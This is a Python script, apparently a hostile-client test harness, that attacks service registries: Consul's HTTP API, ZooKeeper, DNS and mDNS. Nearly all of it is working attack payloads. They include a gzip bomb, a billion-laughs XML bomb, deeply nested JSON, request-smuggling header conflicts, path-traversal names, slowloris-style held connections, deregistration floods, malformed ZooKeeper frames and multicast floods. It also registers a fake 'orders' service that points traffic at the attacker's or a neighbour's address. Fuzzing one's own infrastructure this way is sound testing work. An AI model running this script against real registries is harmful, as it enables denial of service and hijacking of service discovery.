"""What a hostile guest says to registries, and one that says yes to all of it: `liar.py serve ADDRESS`, `liar.py lie REGISTRY OWN NEIGHBOUR`."""

import gzip
import json
import os
import socket
import struct
import sys
import threading

OK = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}"
ZK_CONNECTED = struct.pack("!iiiq", 36, 0, 30000, 0x1234) + struct.pack("!i", 16) + b"p" * 16


def agree(port):
    """Yes to whatever comes: an HTTP answer a piece, or ZooKeeper's for a session and then for each frame of sane size."""
    def talk(c):
        first = True
        with c:
            while True:
                try:
                    got = c.recv(65536)
                    if not got:
                        return
                    if port == 2181:
                        c.sendall(ZK_CONNECTED if first else struct.pack("!iiqi", 16, 1, 1, 0))
                    else:
                        c.sendall(OK * max(1, got.count(b" HTTP/1.1\r\n")))
                    first = False
                except OSError:
                    return

    server = socket.create_server((sys.argv[2], port), backlog=4096)
    while True:
        threading.Thread(target=talk, args=(server.accept()[0],), daemon=True).start()


def register(name, **more):
    return json.dumps({"Name": name, "ID": "lie", "Address": sys.argv[3], "Port": 9999, **more}).encode()


def bodies(own, neighbour):
    for name in ("a\nb", 'a"b', "../../etc/passwd", "x" * 10000, "\0", "a\0b", "\ud800", "%s%n", "<a>", "orders.other", "ORDERS/../orders", " ", "-", "."):
        yield register(name)
    yield b'{"Name":"\xff\xfe\xc0\x80","ID":"lie","Address":"' + own.encode() + b'","Port":9999}'
    for address in "0.0.0.0", "127.0.0.1", "224.0.0.1", "255.255.255.255", neighbour, "::", "ff02::1", "fe80::1", "::ffff:127.0.0.1", "1" * 5000, "":
        yield register("orders", Address=address, Port=9998)
    for port in 0, 65536, -1, 1e308, 2 ** 64, "8080", None, True, [], {}:
        yield register("orders", Port=port)
    yield b'{"Name":"orders","Port":1' + b"0" * 5000 + b"}"
    yield b'{"Name":"orders","Port":1e999999999}'
    yield b'{"Name":"lies","Name":"orders","Port":9997,"Port":9996,"Address":"%s","Address":"127.0.0.1"}' % own.encode()
    yield b"[" * 100000
    yield b'{"a":' * 100000 + b"1" + b"}" * 100000
    yield b'{"Name":"orders","Meta":{' + b",".join(b'"k%d":"v"' % i for i in range(20000)) + b"}}"
    yield b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">' + b"".join(b'<!ENTITY %c "&%c;&%c;&%c;">' % (i + 1, i, i, i) for i in range(97, 121)) + b"]><instance>&y;</instance>"


def messages(own, neighbour):
    """Whole requests, right and wrong ones."""
    head = b"PUT /v1/agent/service/register HTTP/1.1\r\nHost: c\r\n"
    for body in bodies(own, neighbour):
        yield head + b"Content-Length: %d\r\n\r\n" % len(body) + body
    yield b"POST /eureka/apps/ORDERS HTTP/1.1\r\nHost: c\r\nContent-Type: application/xml\r\nContent-Length: 9\r\n\r\n<a><b></a"
    good = register("orders", Port=9995)
    bomb = gzip.compress(b" " * (256 << 20) + good)
    yield head + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(bomb) + bomb
    yield head + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % 40 + bomb[:20] + os.urandom(20)
    for size in b"ffffffffffffffff", b"-5", b"0x10", b"7fffffff", b"", b"g", b"5;" + b"x" * 20000, b"1 0", b"0000000000000000000000005":
        yield head + b"Transfer-Encoding: chunked\r\n\r\n" + size + b"\r\n" + good + b"\r\n0\r\n\r\n"
    yield head + b"Transfer-Encoding: chunked\r\n\r\n" + b"".join(b"1\r\n%c\r\n" % b for b in good) + b"0\r\n" + b"T: x\r\n" * 2000 + b"\r\n"
    for length in b"-1", b"+5", b"99999999999999999999", b"5, 6", b"5\r\nContent-Length: 6", b"0x5", b"5\r\nTransfer-Encoding: chunked":
        yield head + b"Content-Length: " + length + b"\r\n\r\n" + good
    yield head + b"X: " + b"y" * 200000 + b"\r\n\r\n"
    yield head + b"X: y\r\n" * 20000 + b"\r\n"
    yield b"PUT /" + b"../" * 20000 + b" HTTP/1.1\r\nHost: c\r\n\r\n"
    yield os.urandom(20000)


def say(to, data, step=0):
    """One connection; what the other side thinks of it is its affair. @step: so many bytes a packet."""
    try:
        with socket.create_connection(to, 10) as s:
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for at in range(0, len(data), step or len(data)):
                s.sendall(data[at:at + (step or len(data))])
            s.settimeout(0.2)
            s.recv(100)
    except OSError:
        pass


def zookeeper():
    connect = struct.pack("!iqiq", 0, 0, 30000, 0) + struct.pack("!i", 16) + b"\0" * 16
    session = struct.pack("!i", len(connect)) + connect
    path = b"/services/orders/lie"
    for length in 0x7fffffff, -1, 0, 1, -0x80000000, 1 << 20:
        yield struct.pack("!i", length) + os.urandom(100)
        yield session + struct.pack("!iii", length, 1, 1) + os.urandom(1000)
        body = struct.pack("!iii", 1, 1, length) + path           # create(): the path's length
        yield session + struct.pack("!i", len(body)) + body
        body = struct.pack("!iii", 1, 1, len(path)) + path + struct.pack("!i", length) + b"x" * 50
        yield session + struct.pack("!i", len(body)) + body
    yield session + (struct.pack("!iii", 8, 1, 14)) * 5000          # a multi without an operation


def datagrams():
    head = struct.pack("!HHHHHH", 1, 0x2800, 1, 1, 1, 0)             # an update
    loop = b"\xc0\x0c"
    for body in loop + b"\0\6\0\1", b"\xc0\x0e\xc0\x0c\0\6\0\1", b"\x3f" * 3000, (b"\x3f" + b"x" * 63) * 5 + b"\0\0\6\0\1", b"\1a" * 200 + b"\0\0\6\0\1", b"\xff" * 500, b"":
        yield 53, head + body
        yield 5353, struct.pack("!HHHHHH", 0, 0x8400, 0, 65535, 65535, 65535) + body
        yield 5353, struct.pack("!HHHHHH", 0, 0, 65535, 0, 0, 0) + body * 2
    record = b"\4_lie\4_tcp\5local\0" + struct.pack("!HHIH", 12, 1, 0xffffffff, 2) + b"\xc0\x0c"
    yield 5353, struct.pack("!HHHHHH", 0, 0x8400, 0, 65535, 0, 0) + record * 200


def lie(registry, own, neighbour):
    http = (registry, 8500)
    held = []
    for _ in range(400):
        s = socket.create_connection(http, 10)
        s.sendall(b"PUT /v1/agent/service/register HTTP/1.1\r\nHost: c\r\nContent-Le")
        held.append(s)
    for m in messages(own, neighbour):
        say(http, m)
    say(http, b"PUT /v1/agent/service/register HTTP/1.1\r\nHost: c\r\nContent-Length: %d\r\n\r\n" % (len(register("drip")) + 10 ** 9) + register("drip"), 1)
    say(http, b"".join(b"PUT /v1/agent/service/deregister/n%d HTTP/1.1\r\nHost: c\r\nContent-Length: 0\r\n\r\n" % i for i in range(5000)))
    for m in zookeeper():
        say((registry, 2181), m)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for port, m in datagrams():
            s.sendto(m[:9000], (registry if port == 53 else "224.0.0.251", port))
    for s in held:
        s.close()
    m = register("orders", ID="true", Port=9990)
    say(http, b"PUT /v1/agent/service/register HTTP/1.1\r\nHost: c\r\nContent-Length: %d\r\n\r\n" % len(m) + m)


if sys.argv[1] == "serve":
    threading.Thread(target=agree, args=(2181,), daemon=True).start()
    agree(8500)
else:
    lie(*sys.argv[2:5])
